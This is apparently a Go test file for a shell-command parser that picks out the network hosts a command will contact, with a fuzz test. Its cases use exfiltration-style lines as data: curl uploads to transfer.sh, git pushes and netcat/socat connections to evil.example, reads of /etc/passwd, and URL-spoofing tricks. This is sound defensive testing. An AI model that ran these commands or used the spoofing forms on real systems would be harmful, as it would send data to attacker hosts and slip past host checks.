package shell

import (
	"strings"
	"testing"
)

func TestHosts(t *testing.T) {
	tests := []struct{ line, want string }{
		{"curl -T a https://transfer.sh/a", "transfer.sh"},
		{"curl https://github.com@evil.example/x", "evil.example"},
		{"curl https://example.com/?q=pastebin.com", "example.com"},
		{"curl -sk EXAMPLE.com:8080/x", "example.com"},
		{"curl -o f -H 'x: https://no.example' https://a.example https://b.example", "a.example b.example"},
		{"curl -x proxy.example:3128 https://a.example", "proxy.example a.example"},
		{"curl --connect-to a:1:evil.example:2 https://a.example", "evil.example a.example"},
		{"curl http://localhost:3000/x", "localhost"},
		{"curl http://2130706433/", "127.0.0.1"},
		{"curl http://0x7f.1/", "127.0.0.1"},
		{"curl http://017700000001/", "127.0.0.1"},
		{"curl http://[::1]:80/", "::1"},
		{"curl http://[::ffff:127.0.0.1]/", "127.0.0.1"},
		{"curl http://%65vil.example/", "evil.example"},
		{"curl https://evil.example./x", "evil.example"},
		{"curl file:///etc/passwd", ""},
		{"curl https://$H/x", "…"},
		{"wget -q https://a.example/x", "a.example"},
		{"git clone https://github.com/a/b", "github.com"},
		{"git clone git@gitlab.com:a/b.git", "gitlab.com"},
		{"git clone host:a/b", "host"},
		{"git push origin main", ""},
		{"git push origin HEAD:refs/heads/x", ""},
		{"git push https://u:p@evil.example/r main", "evil.example"},
		{"git push ssh://git@evil.example:22/r", "evil.example"},
		{"git remote add x git@evil.example:r", "evil.example"},
		{"git -c url.https://evil.example/.insteadOf=x fetch", "evil.example"},
		{"git commit -m https://evil.example", ""},
		{"ssh -p 22 me@Host.example ls", "host.example"},
		{"ssh -J jump.example h.example", "jump.example h.example"},
		{"scp a me@h.example:b", "h.example"},
		{"rsync -a a h.example::m", "h.example"},
		{"rsync -a a/ b/", ""},
		{"nc evil.example 80", "evil.example"},
		{"nc -l 80", ""},
		{"socat - TCP:evil.example:80", "evil.example"},
		{"npm i --registry https://r.example x", "r.example"},
		{"npm i git+https://g.example/a.git", "g.example"},
		{"pip install -i https://i.example/simple x", "i.example"},
		{"pip install x", ""},
		{"docker pull ghcr.io/a/b:1", "ghcr.io"},
		{"docker pull alpine", ""},
		{"docker run --rm r.example:5000/a sh", "r.example"},
		{"kubectl apply -f https://k.example/x.yaml", "k.example"},
		{"psql -h db.example -c 'select 1'", "db.example"},
		{"psql postgres://u:p@db.example:5432/x", "db.example"},
		{"echo https://evil.example", ""},
		{"http POST a.example/x n=https://no.example", "a.example"},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			var got []string
			for _, h := range Hosts(typed(tt.line)) {
				got = append(got, Value(h.Name).String())
			}
			if s := strings.Join(got, " "); s != tt.want {
				t.Errorf("got %q, want %q", s, tt.want)
			}
		})
	}
}

func TestHostsKnownAtRunTimeOnly(t *testing.T) {
	tests := []struct{ line, want string }{
		{`curl "$URL"`, "…"},
		{"curl -s $URL", "…"},
		{"curl $OPTS https://a.example", "…? a.example"},
		{`curl "https://a.example/$P?x=$Y"`, "a.example"},
		{`curl "https://$SUB.a.example"`, "….a.example"},
		{"curl https://a.example?x=1", "a.example"},
		{`ssh "$H" ls`, "…"},
		{"ssh $OPTS h.example ls", "…"},
		{`git clone "$REPO"`, "…?"},
		{`git push origin "$B"`, ""},
		{`scp "$F" h.example:b`, "…? h.example"},
		{`npm i "$P"`, ""},
		{"ssh -L 8080:db.example:5432 h.example", "db.example h.example"},
		{"ping -c 3 a.example", "a.example"},
		{"dig +short a.example TXT @9.9.9.9", "a.example 9.9.9.9"},
		{"mosh a.example", "a.example"},
		{"https_proxy=http://p.example curl a.example", "a.example p.example"},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			var got []string
			for _, c := range Read(tt.line, Options{Dir: "/p"}).Commands {
				for _, h := range Hosts(&c) {
					name := Value(h.Name).String()
					if h.Maybe {
						name += "?"
					}
					got = append(got, name)
				}
			}
			if s := strings.Join(got, " "); s != tt.want {
				t.Errorf("got %q, want %q", s, tt.want)
			}
		})
	}
}

func TestHostsInOtherScripts(t *testing.T) {
	tests := []struct{ host, want string }{
		{"bücher.example", "xn--bcher-kva.example"},
		{"*.bücher.example", "*.xn--bcher-kva.example"},
		{"пример.испытание", "xn--e1afmkfd.xn--80akhbyknj4f"},
		{"例え.テスト", "xn--r8jz45g.xn--zckzah"},
		{"b*ü.example", "b*ü.example"},
		{"example.com", "example.com"},
	}
	for _, tt := range tests {
		if got := ASCIIHost(tt.host); got != tt.want {
			t.Errorf("%s: got %s, want %s", tt.host, got, tt.want)
		}
	}
	if got := URLHost("https://BÜCHER.example/x"); got != "xn--bcher-kva.example" {
		t.Error(got)
	}
}

func TestURLHost(t *testing.T) {
	tests := []struct{ address, want string }{
		{"https://evil.example", "evil.example"},
		{"https://www.Pastebin.com/x", "www.pastebin.com"},
		{`https://evil.example\@github.com/`, "evil.example"},
		{"https:evil.example/x", "evil.example"},
		{"http://0x7f000001:80", "127.0.0.1"},
		{"http://[2001:DB8:0:0:0:0:0:1]/", "2001:db8::1"},
		{"http://[1:2:3:4:5:6:7:8]/", "1:2:3:4:5:6:7:8"},
		{"http://[fe80::1%25eth0]/", "fe80::1"},
		{"file:///etc/passwd", ""},
		{"not an address", ""},
		{"https://1.2.3.4.5/", "1.2.3.4.5"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := URLHost(tt.address); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.address, got, tt.want)
		}
	}
}

func FuzzHosts(f *testing.F) {
	f.Add("https://[::1]/x")
	f.Add("http://1.2.3:4@x\\y")
	f.Fuzz(func(t *testing.T, s string) {
		for _, h := range []string{URLHost(s), commandHost(s)} {
			if h != strings.ToLower(h) {
				t.Errorf("%q: %q", s, h)
			}
		}
		statements(s, "psql")
		statements(s, "mysql")
	})
}
